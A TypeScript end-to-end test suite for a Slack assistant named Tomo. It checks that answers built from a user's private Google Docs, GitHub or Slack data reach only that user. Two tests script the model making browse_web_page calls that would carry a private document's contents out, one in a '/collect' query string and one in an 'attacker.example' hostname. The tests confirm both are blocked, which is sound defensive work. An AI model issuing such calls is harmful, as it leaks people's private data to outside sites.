import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ANA, startFakeIntegrations, type FakeIntegrations } from '../../fakes/integrations/fake-integrations';
import { addItems } from '../../fakes/integrations/fake-provider-apis';
import { startFakeWeb, type FakeWeb } from '../../fakes/web/fake-web';
import { HttpSession } from '../settings/support/http-session';
import { eventually, installThroughBrowser, mention, repliesIn, sendEvent, settled, startSlackAppWorld, type SlackAppWorld } from '../slack-app/support/slack-app-world';

/**
 * End to end through the real server and worker: people connect their own accounts through
 * /api/auth/*, then ask Tomo in Slack. Answers built from a private connection reach only the
 * asker (ephemeral in the thread, with a note); nobody's connection serves anyone else.
 */
describe('Integrations in answers (Slack, LLM and provider fakes)', () => {
  let world: SlackAppWorld;
  let fake: FakeIntegrations;
  let web: FakeWeb;
  const DOC_ID = '1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';
  const DOC_URL = `https://docs.google.com/document/d/${DOC_ID}/edit`;
  const DOC_FACT = 'The Q3 launch moved to October 14 because the harbour permit came late.';

  beforeAll(async () => {
    fake = await startFakeIntegrations();
    web = await startFakeWeb();
    world = await startSlackAppWorld({ ...fake.env(['google', 'github']), IMAGE_TIMEOUT_MS: '1500', FETCH_ALLOW_PRIVATE_HOSTS: web.host });
    expect((await installThroughBrowser(world)).status).toBe(200);
    addItems(fake.world, 'google:docs', { id: DOC_ID, title: 'Launch plan', text: `Launch plan\n${DOC_FACT}`, readers: [ANA.id] });
    addItems(fake.world, 'github:code', {
      id: 'acme/harbour',
      title: 'src/permits/harbour-permit.ts',
      text: 'export const HARBOUR_PERMIT_DAYS = 45; // private constant',
      url: 'https://github.com/acme/harbour/blob/main/src/permits/harbour-permit.ts',
      readers: [ANA.id],
    });
    // Alice connects Google Docs and GitHub (as the account ANA), and Slack search, through the real flow.
    const alice = await signedIn(world.ws.alice);
    fake.oauth.signInAs('google', ANA);
    fake.oauth.signInAs('github', ANA);
    for (const provider of ['google-docs', 'github']) expect((await connect(alice, provider)).status).toBe(303);
    world.slack.connectUserAs({ teamId: world.ws.team.id, userId: world.ws.alice });
    expect((await connect(alice, 'slack')).status).toBe(303);
  });
  afterAll(async () => {
    await world?.close();
    await fake?.close();
    await web?.close();
  });
  beforeEach(() => world.openai.reset());

  async function signedIn(userId: string): Promise<HttpSession> {
    const session = new HttpSession(world.app.baseUrl);
    await session.signIn(world.slack, { teamId: world.ws.team.id, userId });
    return session;
  }

  async function connect(session: HttpSession, provider: string): Promise<Response> {
    const start = await session.get(`/api/auth/request/${provider}`);
    expect(start.status).toBe(302);
    const consent = await fetch(start.headers.get('location')!, { redirect: 'manual' });
    return session.get(consent.headers.get('location')!.replace(world.app.baseUrl, ''));
  }

  async function ask(user: string, text: string, channel = world.ws.channel) {
    const question = world.slack.addMessage({ channel, user, text: `<@${world.ws.team.botUserId}> ${text}` });
    const ephemeralsBefore = world.slack.ephemeralsFor(user).length;
    await sendEvent(world, mention(world, { ts: question.ts, channel, user }));
    await eventually(() =>
      expect(repliesIn(world, channel, question.ts).length + world.slack.ephemeralsFor(user).length - ephemeralsBefore).toBeGreaterThan(0),
    );
    await settled(world);
    return { ts: question.ts, replies: repliesIn(world, channel, question.ts), ephemerals: world.slack.ephemeralsFor(user).slice(ephemeralsBefore) };
  }

  const lastPrompt = () => world.openai.calls.at(-1)!.prompt;

  it("reads a Google Docs link with the asker's own token and answers them alone, with a note, in a shared channel", async () => {
    world.openai.answer('The launch is on October 14.');
    const callsBefore = fake.apiCalls.length;

    const { ts, replies, ephemerals } = await ask(world.ws.alice, `when is the launch? <${DOC_URL}>`);

    expect(lastPrompt().turns.at(-1)!.text).toContain(DOC_FACT);
    const docCalls = fake.apiCalls.slice(callsBefore).filter((c) => c.path === `/v1/documents/${DOC_ID}`);
    expect(docCalls).toEqual([{ family: 'google', method: 'GET', path: `/v1/documents/${DOC_ID}`, account: ANA.id }]);
    // Nothing in the channel for everyone; the answer reached Alice alone, in the thread.
    expect(replies).toEqual([]);
    expect(ephemerals).toHaveLength(1);
    expect(ephemerals[0]).toMatchObject({ channel: world.ws.channel, threadTs: ts });
    expect(ephemerals[0]!.text).toContain('Only you can see this answer: it uses your own Google Docs connection');
    expect(ephemerals[0]!.text).toContain('The launch is on October 14.');
    expect(JSON.stringify(world.slack.thread(world.ws.channel, ts))).not.toContain('October 14');
  });

  it("never uses Alice's connection for Bob's question: Bob's answer says the document was not read", async () => {
    world.openai.answer('I could not open that document.');
    const callsBefore = fake.apiCalls.length;

    const { replies } = await ask(world.ws.bob, `what does this say? <${DOC_URL}>`);

    expect(lastPrompt().turns.at(-1)!.text).not.toContain(DOC_FACT);
    expect(lastPrompt().turns.at(-1)!.text).toContain('the person asking has not connected google-docs');
    expect(lastPrompt().tools).not.toContain('github_search_code');
    expect(fake.apiCalls.slice(callsBefore)).toEqual([]);
    // Bob's answer used nothing private: it goes to the thread as usual.
    expect(replies).toEqual(['I could not open that document.']);
  });

  it('answers in the thread as usual in a direct conversation with Tomo', async () => {
    world.openai.answer('October 14.');
    const { replies, ephemerals } = await ask(world.ws.alice, `when? <${DOC_URL}>`, world.ws.dm);
    expect(replies).toEqual(['October 14.']);
    expect(ephemerals).toEqual([]);
  });

  it('searches code in GitHub with the asker\'s connection; the answer that used it goes to the asker alone', async () => {
    world.openai.enqueue(
      { toolCalls: [{ name: 'github_search_code', arguments: { query: 'HARBOUR_PERMIT_DAYS' } }] },
      { text: 'The permit takes 45 days (src/permits/harbour-permit.ts).' },
    );

    const { replies, ephemerals } = await ask(world.ws.alice, 'how long does the harbour permit take in our code?');

    const [first, second] = world.openai.calls.slice(-2).map((c) => c.prompt);
    expect(first!.tools).toEqual(expect.arrayContaining(['github_search_code', 'github_search_issues', 'slack_search_messages']));
    expect(second!.turns.at(-1)).toMatchObject({ role: 'tool' });
    expect(second!.turns.at(-1)!.text).toContain('HARBOUR_PERMIT_DAYS = 45');
    expect(fake.apiCalls.filter((c) => c.path === '/search/code').at(-1)).toMatchObject({ account: ANA.id });
    expect(replies).toEqual([]);
    expect(ephemerals.map((e) => e.text).join('\n')).toContain('The permit takes 45 days');
    expect(ephemerals[0]!.text).toContain('GitHub');
  });

  it('posts in the thread when the asker has connections but the answer used none of them', async () => {
    world.openai.answer('Hello Alice!');
    const { replies, ephemerals } = await ask(world.ws.alice, 'say hello');
    expect(lastPrompt().tools).toContain('github_search_code');
    expect(replies).toEqual(['Hello Alice!']);
    expect(ephemerals).toEqual([]);
  });

  it("searches Slack with the asker's own user token (search:read) and answers ephemerally", async () => {
    world.slack.addMessage({ channel: world.ws.dm, user: world.ws.alice, text: 'note to self: the dock code is 4471' });
    world.openai.enqueue(
      { toolCalls: [{ name: 'slack_search_messages', arguments: { query: 'dock code' } }] },
      { text: 'Your note says the dock code is 4471.' },
    );

    const { replies, ephemerals } = await ask(world.ws.alice, 'what was the dock code I noted?');

    const search = world.slack.callsTo('search.messages').at(-1)!;
    expect(search.token).toMatch(/^xoxp-/);
    expect(world.slack.userTokens.grants.get(search.token!)).toMatchObject({ userId: world.ws.alice, scope: 'search:read' });
    expect(world.openai.calls.at(-1)!.prompt.turns.at(-1)!.text).toContain('the dock code is 4471');
    expect(replies).toEqual([]);
    expect(ephemerals.map((e) => e.text).join('\n')).toContain('Your note says the dock code is 4471.');
    expect(ephemerals[0]!.text).toContain('Slack');
  });

  it('posts no pictures for everyone once the answer has read the asker\'s private document', async () => {
    // The model makes a poster of Alice's private Google Doc: pictures and their caption would go
    // into the channel for everyone, so the tool refuses and the answer stays Alice's alone.
    world.openai.enqueue(
      { toolCalls: [{ name: 'generate_image', arguments: { prompt: `Poster of the launch plan: ${DOC_FACT}` } }] },
      { text: 'I can only describe it here: the launch is on October 14.' },
    );
    const imagesBefore = world.openai.imageCalls.length;

    const { ts, replies, ephemerals } = await ask(world.ws.alice, `could you make us a poster of this plan? <${DOC_URL}>`);

    expect(lastPrompt().tools).toContain('generate_image');
    expect(lastPrompt().turns.at(-1)).toMatchObject({ role: 'tool' });
    expect(world.openai.imageCalls.length).toBe(imagesBefore);
    expect(replies).toEqual([]);
    expect(world.slack.botReplies(world.ws.channel, ts).flatMap((m) => m.files ?? [])).toEqual([]);
    expect(JSON.stringify(world.slack.thread(world.ws.channel, ts))).not.toContain('October 14');
    expect(ephemerals.map((e) => e.text).join('\n')).toContain('the launch is on October 14');
  });

  it("opens no address the model made up once the answer has read the asker's private document: its query could carry the document out", async () => {
    // A page or document told the model to "open" an address carrying what it read; the site's owner
    // would read Alice's document in their server log. Addresses from the conversation still open.
    world.openai.enqueue(
      {
        toolCalls: [
          { name: 'browse_web_page', arguments: { url: `${web.origin}/collect?d=${encodeURIComponent(DOC_FACT)}` } },
          { name: 'browse_web_page', arguments: { url: `${web.origin}/notes.txt` } },
        ],
      },
      { text: 'The launch is on October 14.' },
    );
    const hitsBefore = web.hits.length;

    const { replies, ephemerals } = await ask(world.ws.alice, `when is the launch? <${DOC_URL}> (see also ${web.origin}/notes.txt)`);

    expect(lastPrompt().tools).toContain('browse_web_page');
    expect(web.hits.slice(hitsBefore).filter((hit) => hit.startsWith('/collect'))).toEqual([]);
    const results = lastPrompt().turns.filter((t) => t.role === 'tool').map((t) => t.text);
    expect(results[0]).toMatch(/^Error: /);
    expect(results[1]).toContain('Meeting notes');
    expect(replies).toEqual([]);
    expect(ephemerals.map((e) => e.text).join('\n')).toContain('The launch is on October 14.');
  });

  it("shows the channel no status naming a site the model made up once the answer has read the asker's document", async () => {
    // The status ("is reading <host>…") is seen by everyone in the thread, before the page is even
    // refused: a host spelled from the document would show it to the channel.
    world.openai.enqueue(
      { toolCalls: [{ name: 'browse_web_page', arguments: { url: 'https://launch-moved-to-october-14.attacker.example/' } }] },
      { text: 'The launch is on October 14.' },
    );
    const statusesBefore = world.slack.callsTo('assistant.threads.setStatus').length;

    const { ephemerals } = await ask(world.ws.alice, `when is the launch? <${DOC_URL}>`);

    const statuses = world.slack.callsTo('assistant.threads.setStatus').slice(statusesBefore).map((c) => String(c.params.status));
    expect(statuses.length).toBeGreaterThan(0);
    expect(statuses.join('\n')).not.toContain('october-14');
    expect(ephemerals.map((e) => e.text).join('\n')).toContain('The launch is on October 14.');
  });

  it("keeps a message linked from a private channel out of a shared one: another person's permalink in the thread, Alice's answer alone", async () => {
    // Bob is not in #exec; Alice is. Bob pastes a permalink to an #exec message in #general and Alice
    // asks Tomo about the thread: reading it for her is right, posting it in #general is not.
    const exec = world.slack.addChannel({ id: 'GEXEC1', teamId: world.ws.team.id, name: 'exec', isPrivate: true, members: [world.ws.alice] });
    const memo = world.slack.addMessage({ channel: exec.id, user: world.ws.alice, text: 'Reorg: the harbour team moves under Finance on March 3.' });
    const parent = world.slack.addMessage({
      channel: world.ws.channel,
      user: world.ws.bob,
      text: `anyone know what this is? <https://acme.slack.com/archives/${exec.id}/p${memo.ts.replace('.', '')}>`,
    });
    const question = world.slack.addMessage({ channel: world.ws.channel, user: world.ws.alice, threadTs: parent.ts, text: `<@${world.ws.team.botUserId}> summarize this thread` });
    world.openai.answer('The harbour team moves under Finance on March 3.');
    const ephemeralsBefore = world.slack.ephemeralsFor(world.ws.alice).length;

    await sendEvent(world, mention(world, { ts: question.ts, channel: world.ws.channel, threadTs: parent.ts }));
    await eventually(() => expect(world.slack.ephemeralsFor(world.ws.alice).length + repliesIn(world, world.ws.channel, parent.ts).length).toBeGreaterThan(ephemeralsBefore));
    await settled(world);

    expect(lastPrompt().turns.at(-1)!.text).toContain('moves under Finance on March 3');
    expect(repliesIn(world, world.ws.channel, parent.ts)).toEqual([]);
    expect(JSON.stringify(world.slack.thread(world.ws.channel, parent.ts))).not.toContain('Finance');
    const ephemerals = world.slack.ephemeralsFor(world.ws.alice).slice(ephemeralsBefore);
    expect(ephemerals).toHaveLength(1);
    expect(ephemerals[0]!.text).toContain('Only you can see this answer: it uses a linked message from a private channel or DM');
    expect(ephemerals[0]!.text).toContain('The harbour team moves under Finance on March 3.');
  });

  it('posts in the thread as usual an answer about a message linked from a public channel', async () => {
    const note = world.slack.addMessage({ channel: world.ws.channel, user: world.ws.bob, text: 'The ferry leaves at 7:40 on weekdays.' });
    world.openai.answer('Weekdays at 7:40.');
    const { replies, ephemerals } = await ask(world.ws.bob, `when? <https://acme.slack.com/archives/${world.ws.channel}/p${note.ts.replace('.', '')}>`);
    expect(lastPrompt().turns.at(-1)!.text).toContain('The ferry leaves at 7:40');
    expect(replies).toEqual(['Weekdays at 7:40.']);
    expect(ephemerals).toEqual([]);
  });

  it("does not read a guest or another organization's person a public channel they are not in", async () => {
    // Guests see only the channels they were invited to; people of a Slack Connect partner only
    // the shared ones. #finance is public, but neither is in it.
    const finance = world.slack.addChannel({ id: 'CFINANCE1', teamId: world.ws.team.id, name: 'finance', members: [world.ws.alice, world.ws.bob] });
    const memo = world.slack.addMessage({ channel: finance.id, user: world.ws.alice, text: 'Salaries rise 4% from April; payroll runs on the 25th.' });
    const link = `https://acme.slack.com/archives/${finance.id}/p${memo.ts.replace('.', '')}`;
    const guest = world.slack.addUser({ id: 'UGUEST001', teamId: world.ws.team.id, name: 'gail', realName: 'Gail Guest', isRestricted: true }).id;
    const single = world.slack.addUser({ id: 'UGUEST002', teamId: world.ws.team.id, name: 'sam', realName: 'Sam Single', isUltraRestricted: true }).id;
    const partner = world.slack.addUser({ id: 'UPARTNER1', teamId: 'TPARTNER1', name: 'pat', realName: 'Pat Partner' }).id;

    for (const who of [guest, single, partner]) {
      world.openai.answer('I cannot see that message.');
      const { replies } = await ask(who, `what does this say? <${link}>`);
      expect(lastPrompt().turns.at(-1)!.text).not.toContain('Salaries rise');
      // The line under the answer says the link could not be opened, not that it exists.
      expect(replies).toEqual([`I cannot see that message.\n\nCould not read: \`${link}\` (not found, or Tomo cannot open it)`]);
    }

    // (control) a full member of the workspace reads any public channel, member of it or not.
    world.openai.answer('Salaries rise 4% from April.');
    finance.members = [world.ws.alice];
    const { replies } = await ask(world.ws.bob, `what does this say? <${link}>`);
    expect(lastPrompt().turns.at(-1)!.text).toContain('Salaries rise 4% from April');
    expect(replies).toEqual(['Salaries rise 4% from April.']);
  });

  it("reads a pasted Slack file permalink only as the asker could open it: another workspace's or a private channel's file is not found, in en and ja", async () => {
    const text = (body: string) => ({ mimetype: 'text/plain', filetype: 'text', content: Buffer.from(body) });
    const permalink = (user: string, id: string, name: string) => `https://acme.slack.com/files/${user}/${id}/${name}`;
    // #board is private: Alice and Tomo are in it, Bob is not. A file in a workspace Tomo is not installed in.
    const board = world.slack.addChannel({ id: 'GBOARD1', teamId: world.ws.team.id, name: 'board', isPrivate: true, members: [world.ws.alice, world.ws.team.botUserId] });
    world.slack.addMessage({ channel: board.id, user: world.ws.alice, text: 'minutes', files: [{ id: 'F0BOARD1', name: 'minutes.txt', ...text('The board approved the new dry dock for 2027.') }] });
    world.slack.addTeam({ id: 'TOTHER01', name: 'Other Co' });
    world.slack.addChannel({ id: 'COTHER01', teamId: 'TOTHER01', name: 'general' });
    world.slack.addMessage({ channel: 'COTHER01', user: 'UOTHER01', text: 'theirs', files: [{ id: 'F0OTHER1', name: 'theirs.txt', ...text('Other Co pays its suppliers in 90 days.') }] });
    world.slack.addMessage({ channel: world.ws.channel, user: world.ws.bob, text: 'rota', files: [{ id: 'F0ROTA01', name: 'rota.txt', ...text('Bob has the harbour watch on Sundays.') }] });
    const boardLink = permalink(world.ws.alice, 'F0BOARD1', 'minutes.txt');
    const otherLink = permalink('UOTHER01', 'F0OTHER1', 'theirs.txt');
    const rotaLink = permalink(world.ws.bob, 'F0ROTA01', 'rota.txt');

    // Erin cannot open #board's file, and no one here another workspace's: both "not found", in
    // the asker's language (Bob's Slack is in Japanese).
    const erin = world.slack.addUser({ id: 'UERIN0001', teamId: world.ws.team.id, name: 'erin', realName: 'Erin', locale: 'en-US' }).id;
    for (const link of [boardLink, otherLink]) {
      world.openai.answer('I cannot open that file.');
      const { replies } = await ask(erin, `summarize <${link}>`);
      expect(lastPrompt().turns.at(-1)!.text).not.toMatch(/dry dock|90 days/);
      expect(replies).toEqual([`I cannot open that file.\n\nCould not read: \`${link}\` (not found, or Tomo cannot open it)`]);
    }
    world.openai.answer('開けません。');
    const { replies: ja } = await ask(world.ws.bob, `要約して <${boardLink}>`);
    expect(lastPrompt().turns.at(-1)!.text).not.toContain('dry dock');
    expect(ja).toEqual([`開けません。\n\n読めなかったもの: \`${boardLink}\` (見つからないか、Tomoが開けません)`]);

    // Alice can: read for her alone, since the file is from a private channel.
    world.openai.answer('The dry dock was approved for 2027.');
    const alice = await ask(world.ws.alice, `summarize <${boardLink}>`);
    expect(lastPrompt().turns.at(-1)!.text).toContain('The board approved the new dry dock for 2027.');
    expect(alice.replies).toEqual([]);
    expect(alice.ephemerals.map((e) => e.text).join('\n')).toContain('The dry dock was approved for 2027.');

    // (control) a public channel's file is anyone's in the workspace, answered in the thread.
    world.openai.answer('Sundays.');
    const rota = await ask(world.ws.alice, `when is Bob on watch? <${rotaLink}>`);
    expect(lastPrompt().turns.at(-1)!.text).toContain('Bob has the harbour watch on Sundays.');
    expect(rota.replies).toEqual(['Sundays.']);
  });

  it('moves a private answer to a DM when Slack cannot show it in the channel', async () => {
    world.slack.failNext('chat.postEphemeral', 'user_not_in_channel');
    world.openai.answer('October 14, privately.');
    const question = world.slack.addMessage({ channel: world.ws.channel, user: world.ws.alice, text: `<@${world.ws.team.botUserId}> when? <${DOC_URL}>` });
    await sendEvent(world, mention(world, { ts: question.ts, channel: world.ws.channel }));
    await eventually(() => expect(world.slack.callsTo('chat.postMessage').some((c) => String(c.params.markdown_text ?? '').includes('October 14, privately.'))).toBe(true));
    await settled(world);
    const dm = world.slack.callsTo('chat.postMessage').find((c) => String(c.params.markdown_text ?? '').includes('October 14, privately.'))!;
    expect(dm.params.channel).toMatch(/^D/);
    // Slack fetches the links a message unfurls: a link the model wrote after reading private
    // sources must not carry them to a site that way.
    expect([String(dm.params.unfurl_links), String(dm.params.unfurl_media)]).toEqual(['false', 'false']);
    expect(repliesIn(world, world.ws.channel, question.ts)).toEqual([]);
  });

  it("tells the model to have Alice reconnect once Google no longer accepts her connection, rather than that she never connected", async () => {
    // Alice removes Tomo in her Google account: nothing tells Tomo until Google refuses the token.
    const token = [...fake.oauth.tokens.values()].find((t) => t.family === 'google' && t.account.id === ANA.id && !t.revoked)!;
    fake.oauth.revokeGrant(token);
    const reconnect = "Google Docs no longer accepts the person's connection (revoked or expired there). Tell them to reconnect Google Docs on Tomo's Integrations page";

    // The read is refused (401), the refresh too (invalid_grant): the connection turns "reconnect needed".
    world.openai.answer('Google no longer accepts your connection: reconnect Google Docs on the Integrations page.');
    await ask(world.ws.alice, `when is the launch? <${DOC_URL}>`, world.ws.dm);
    expect(lastPrompt().turns.at(-1)!.text).toContain(reconnect);
    expect(lastPrompt().turns.at(-1)!.text).not.toContain(DOC_FACT);

    // The next question does not try the dead connection, and still says to reconnect.
    world.openai.answer('Please reconnect Google Docs.');
    const callsBefore = fake.apiCalls.length;
    await ask(world.ws.alice, `and the budget? <${DOC_URL}>`, world.ws.dm);
    expect(lastPrompt().turns.at(-1)!.text).toContain(reconnect);
    expect(lastPrompt().turns.at(-1)!.text).not.toContain('has not connected');
    expect(fake.apiCalls.slice(callsBefore)).toEqual([]);

    // Bob, who never connected, is still told so.
    world.openai.answer('Not connected.');
    await ask(world.ws.bob, `what does this say? <${DOC_URL}>`);
    expect(lastPrompt().turns.at(-1)!.text).toContain('the person asking has not connected google-docs');

    // Reconnecting reads the document again.
    fake.oauth.signInAs('google', ANA);
    expect((await connect(await signedIn(world.ws.alice), 'google-docs')).status).toBe(303);
    world.openai.answer('October 14.');
    await ask(world.ws.alice, `when? <${DOC_URL}>`, world.ws.dm);
    expect(lastPrompt().turns.at(-1)!.text).toContain(DOC_FACT);
  });

  it('tells the model to have Alice reconnect GitHub once GitHub refuses her token, instead of offering its tools or saying it has none', async () => {
    // Alice revokes Tomo in her GitHub settings: the next search with her token is refused (401),
    // and a GitHub OAuth app's token has no refresh, so the connection turns "reconnect needed".
    const token = [...fake.oauth.tokens.values()].find((t) => t.family === 'github' && t.account.id === ANA.id && !t.revoked)!;
    fake.oauth.revokeGrant(token);
    world.openai.enqueue({ toolCalls: [{ name: 'github_search_code', arguments: { query: 'HARBOUR_PERMIT_DAYS' } }] }, { text: 'GitHub refused.' });
    await ask(world.ws.alice, 'how long does the harbour permit take in our code?', world.ws.dm);
    const reconnect = "tell them to reconnect GitHub on Tomo's Integrations page";
    expect(lastPrompt().system).not.toContain(reconnect);

    world.openai.answer('Please reconnect GitHub on the Integrations page.');
    const callsBefore = fake.apiCalls.length;
    await ask(world.ws.alice, 'and how long does the customs check take in our code?', world.ws.dm);
    expect(lastPrompt().tools).not.toContain('github_search_code');
    expect(lastPrompt().system).toContain(`The person connected GitHub, but GitHub no longer accepts that connection`);
    expect(lastPrompt().system).toContain(reconnect);
    expect(fake.apiCalls.slice(callsBefore)).toEqual([]);

    // Bob, who never connected GitHub, gets no such rule.
    world.openai.answer('Hello Bob.');
    await ask(world.ws.bob, 'hello', world.ws.channel);
    expect(lastPrompt().system).not.toContain('GitHub no longer accepts');
  });
});

